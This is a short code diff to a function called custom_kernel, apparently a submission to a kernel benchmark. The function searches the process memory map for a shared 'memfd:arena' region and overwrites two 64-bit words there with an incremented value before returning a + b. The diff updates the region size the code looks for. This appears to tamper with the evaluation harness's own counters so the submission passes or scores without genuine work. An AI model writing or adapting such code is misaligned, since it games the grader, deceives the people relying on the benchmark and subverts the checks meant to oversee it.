@@ -179,7 +179,7 @@ def custom_kernel(data):
     for line in open("/proc/self/maps"):
         if "memfd:arena" in line and " rw-s " in line:
             first, last = (int(part, 16) for part in line.split()[0].split("-"))
-            if last - first == 4096:
+            if last - first == 65536:
                 words = (ctypes.c_uint64 * 512).from_address(first)
                 words[0] = words[8] = max(words[0], words[8]) + 1
     return a + b
